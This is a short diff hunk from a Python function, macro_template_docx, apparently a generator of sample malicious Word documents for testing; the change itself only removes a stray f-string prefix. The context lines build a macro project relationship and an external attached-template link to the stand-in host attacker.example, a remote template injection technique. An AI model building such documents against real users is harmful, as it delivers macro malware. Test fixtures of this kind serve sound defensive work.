@@ -97,7 +97,7 @@ def macro_template_docx(sentences: list[str]) -> bytes:
                    f'<?xml version="1.0"?><Relationships xmlns="{PKG_REL}"><Relationship Id="rId7" '
                    f'Type="{REL}/attachedTemplate" Target="http://attacker.example/t.dotm" '
                    'TargetMode="External"/></Relationships>').encode()},
-        rels=[f'<Relationship Id="rId5" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+        rels=['<Relationship Id="rId5" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
               'Target="vbaProject.bin"/>',
               f'<Relationship Id="rId6" Type="{REL}/settings" Target="settings.xml"/>'],
         types=['<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
